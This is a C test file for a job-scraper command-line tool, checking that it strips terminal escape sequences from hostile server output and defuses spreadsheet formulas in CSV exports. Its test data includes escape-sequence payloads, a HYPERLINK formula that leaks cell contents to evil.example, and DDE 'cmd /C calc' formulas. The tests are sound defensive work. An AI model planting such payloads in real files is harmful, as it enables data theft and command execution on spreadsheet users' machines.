/* SPDX-License-Identifier: GPL-3.0-or-later */
/* The command line against hostile servers and data: escape sequences in
 * what a server says never reach the terminal, and a CSV export never
 * hands a spreadsheet a formula.  The real binary, a real database file
 * and a real server on 127.0.0.1. */
#define G_LOG_DOMAIN "test-cli-hostile"

#include "config.h"

#include <glib/gstdio.h>
#include <json-glib/json-glib.h>
#include <string.h>

#include "cli-test-util.h"
#include "store/scraper-store.h"

/* What a terminal acts on: C0 controls but line feed and tab, DEL, and C1
 * controls (U+0080 to U+009F, and raw bytes 0x80 to 0x9F when the text is
 * not UTF-8). */
static void
assert_printable (const char *what,
                  const char *text)
{
  const char *end = NULL;

  g_assert_nonnull (text);
  if (!g_utf8_validate (text, -1, &end))
    g_error ("%s is not UTF-8 at byte %zu", what, (size_t) (end - text));
  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      if ((c < 0x20 && c != '\n' && c != '\t') || c == 0x7f || (c >= 0x80 && c <= 0x9f))
        g_error ("%s holds the control character U+%04X at byte %zu: %s", what, c,
                 (size_t) (p - text), text);
    }
}

static void
assert_run_printable (const Run *run)
{
  assert_printable ("stdout", run->out);
  assert_printable ("stderr", run->err);
}

/* ESC ] 0 ; title BEL retitles the terminal; ESC [ 2 J clears it; CSI as
 * the C1 character U+009B; a lone BEL rings. */
#define HOSTILE "Oops\x1b]0;pwned-title\x07 \x1b[2J\x1b[31mred\xc2\x9b" "31m\x07 end"

static void
test_terminal_escapes_in_reason_phrase (Fixture       *f,
                                        gconstpointer  data)
{
  g_auto(Run) run = { 0 };
  ScraperTestRoute *route = scraper_test_route_new (403, "text/plain", "no", 2);

  route->reason = g_strdup (HOSTILE);
  scraper_test_server_add_route (f->server, "/hostile.json", route);
  add_source (f, "/hostile.json", "feed", "Hostile");

  cli (f, &run, "scrape", NULL);
  g_assert_cmpint (run.status, ==, 1);
  /* The message is there, without its escape sequences. */
  g_assert_nonnull (strstr (run.out, "403 Oops"));
  g_assert_null (strstr (run.out, "pwned-title"));
  g_assert_null (strstr (run.err, "pwned-title"));
  assert_run_printable (&run);

  /* The error is stored with the source: listing prints it. */
  cli (f, &run, "sources", "list", NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);
}

static void
test_terminal_escapes_in_redirect_target (Fixture       *f,
                                          gconstpointer  data)
{
  g_auto(Run) run = { 0 };

  scraper_test_server_add_redirect (f->server, "/moved.json", "/new\x1b]0;pwned-title\x07.json");
  add_source (f, "/moved.json", "feed", "Moved");

  cli (f, &run, "scrape", NULL);
  g_assert_cmpint (run.status, ==, 1);
  assert_run_printable (&run);
  g_assert_null (strstr (run.err, "pwned-title"));
}

/* A feed names itself: that name becomes the source's, printed by
 * "sources add" and "sources list"; its postings' titles by "list". */
static void
test_terminal_escapes_in_feed_title (Fixture       *f,
                                     gconstpointer  data)
{
  g_auto(Run) run = { 0 };
  g_autofree char *url = NULL;
  const char *feed =
    "{\"version\": \"https://jsonfeed.org/version/1.1\","
    " \"title\": \"Jobs \\u001b]0;pwned-title\\u0007at \\u009b31mAcme\\u001b[0m\","
    " \"items\": [{\"id\": \"1\", \"url\": \"https://jobs.example.com/1\","
    "   \"title\": \"Dev \\u001b[5mblink\\u007f\\u0085\", \"content_text\": \"x\"}]}";

  scraper_test_server_add_text (f->server, "/feed.json", "application/feed+json", feed);
  url = site_url (f, "/feed.json");
  cli (f, &run, "sources", "add", url, NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);

  /* The scrape names the source after the feed. */
  cli (f, &run, "scrape", NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);

  cli (f, &run, "sources", "list", NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);

  cli (f, &run, "list", NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);
  g_assert_nonnull (strstr (run.out, "Dev"));

  /* JSON keeps what it can escape, and stays JSON. */
  cli (f, &run, "sources", "list", "--json", NULL);
  g_assert_cmpint (run.status, ==, 0);
  assert_run_printable (&run);
  json_node_unref (parse_json (run.out));
  g_assert_nonnull (strstr (run.out, "Acme"));
}

/* ------------------------------------------------------------------ */
/* CSV formula injection                                               */

static const char * const formulas[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\tTabbed",
  "\rReturned",
};

static void
fill_formulas (Fixture *f)
{
  g_autoptr(ScraperStore) store = NULL;
  g_autoptr(ScraperSource) source = scraper_source_new ();
  g_autoptr(GPtrArray) postings = g_ptr_array_new_with_free_func ((GDestroyNotify) scraper_posting_unref);
  g_autoptr(GError) error = NULL;
  ScraperSyncCounts counts;
  ScraperSync *sync;
  gint64 source_id;

  store = scraper_store_open (f->db, &error);
  g_assert_no_error (error);
  source->name = g_strdup ("=cmd|' /C calc'!A0");
  source->url = g_strdup ("https://boards.example.com/acme");
  source->kind = g_strdup ("greenhouse");
  source_id = scraper_store_add_source (store, source, &error);
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (formulas); i++)
    {
      ScraperPosting *p = scraper_posting_new ();

      p->external_id = g_strdup_printf ("%u", i);
      p->url = g_strdup_printf ("https://boards.example.com/acme/%u", i);
      p->title = g_strdup (formulas[i]);
      p->company = g_strdup (formulas[i]);
      p->salary_min = -5;   /* stored as given: a number stays a number */
      p->salary_max = 60000;
      g_ptr_array_add (postings, p);
    }
  sync = scraper_store_begin_sync (store, source_id, &error);
  g_assert_no_error (error);
  g_assert_true (scraper_sync_add (sync, postings, &error));
  g_assert_true (scraper_sync_finish (sync, SCRAPER_SYNC_COMPLETE, NULL, &counts, &error));
  g_assert_no_error (error);
}

/* Splits RFC 4180 CSV into rows of cells. */
static GPtrArray *
parse_csv (const char *csv)
{
  GPtrArray *rows = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  GPtrArray *row = g_ptr_array_new_with_free_func (g_free);
  GString *cell = g_string_new (NULL);
  gboolean quoted = FALSE;

  for (const char *p = csv; *p != '\0'; p++)
    {
      if (quoted)
        {
          if (*p == '"' && p[1] == '"')
            g_string_append_c (cell, *p++);
          else if (*p == '"')
            quoted = FALSE;
          else
            g_string_append_c (cell, *p);
        }
      else if (*p == '"')
        quoted = TRUE;
      else if (*p == ',')
        g_ptr_array_add (row, g_string_free (g_steal_pointer (&cell), FALSE)), cell = g_string_new (NULL);
      else if (*p == '\r' && p[1] == '\n')
        {
          p++;
          g_ptr_array_add (row, g_string_free (g_steal_pointer (&cell), FALSE));
          cell = g_string_new (NULL);
          g_ptr_array_add (rows, row);
          row = g_ptr_array_new_with_free_func (g_free);
        }
      else
        g_string_append_c (cell, *p);
    }
  g_string_free (cell, TRUE);
  g_ptr_array_unref (row);
  return rows;
}

static int
column (GPtrArray  *header,
        const char *name)
{
  for (guint i = 0; i < header->len; i++)
    if (g_str_equal (header->pdata[i], name))
      return (int) i;
  g_error ("no column %s", name);
  return -1;
}

static void
test_csv_formula_injection (Fixture       *f,
                            gconstpointer  data)
{
  g_auto(Run) run = { 0 };
  g_autofree char *csv_path = g_build_filename (f->dir, "jobs.csv", NULL);
  g_autofree char *json_path = g_build_filename (f->dir, "jobs.json", NULL);
  g_autofree char *csv = NULL;
  g_autofree char *json = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(JsonNode) root = NULL;
  GPtrArray *header;
  int title, company, source, salary_min;

  fill_formulas (f);
  cli (f, &run, "export", "--format", "csv", "--output", csv_path, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_true (g_file_get_contents (csv_path, &csv, NULL, NULL));
  rows = parse_csv (csv);
  g_assert_cmpuint (rows->len, ==, 1 + G_N_ELEMENTS (formulas));
  header = rows->pdata[0];
  title = column (header, "title");
  company = column (header, "company");
  source = column (header, "source");
  salary_min = column (header, "salary_min");
  for (guint i = 1; i < rows->len; i++)
    {
      GPtrArray *row = rows->pdata[i];
      const char *cell = row->pdata[title];
      gboolean found = FALSE;

      /* Each is its formula behind an apostrophe, which a spreadsheet
       * shows as text. */
      g_assert_cmpint (cell[0], ==, '\'');
      for (guint j = 0; j < G_N_ELEMENTS (formulas); j++)
        found = found || g_str_equal (cell + 1, formulas[j]);
      g_assert_true (found);
      g_assert_cmpint (((const char *) row->pdata[company])[0], ==, '\'');
      g_assert_cmpstr (row->pdata[source], ==, "'=cmd|' /C calc'!A0");
    }

  /* JSON is data, not a sheet: the text as it is. */
  cli (f, &run, "export", "--format", "json", "--output", json_path, NULL);
  g_assert_cmpint (run.status, ==, 0);
  g_assert_true (g_file_get_contents (json_path, &json, NULL, NULL));
  root = parse_json (json);
  {
    JsonArray *array = json_node_get_array (root);
    guint seen = 0;

    g_assert_cmpuint (json_array_get_length (array), ==, G_N_ELEMENTS (formulas));
    for (guint i = 0; i < json_array_get_length (array); i++)
      {
        const char *t = json_object_get_string_member (json_array_get_object_element (array, i), "title");

        for (guint j = 0; j < G_N_ELEMENTS (formulas); j++)
          if (g_str_equal (t, formulas[j]))
            seen++;
      }
    g_assert_cmpuint (seen, ==, G_N_ELEMENTS (formulas));
  }
  (void) salary_min;
}

int
main (int   argc,
      char *argv[])
{
  system_data_dirs = g_strdup (g_getenv ("XDG_DATA_DIRS"));
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

#define ADD(path, func) g_test_add ("/cli-hostile/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("terminal-escapes-in-reason-phrase", test_terminal_escapes_in_reason_phrase);
  ADD ("terminal-escapes-in-redirect-target", test_terminal_escapes_in_redirect_target);
  ADD ("terminal-escapes-in-feed-title", test_terminal_escapes_in_feed_title);
  ADD ("csv-formula-injection", test_csv_formula_injection);
#undef ADD

  return g_test_run ();
}
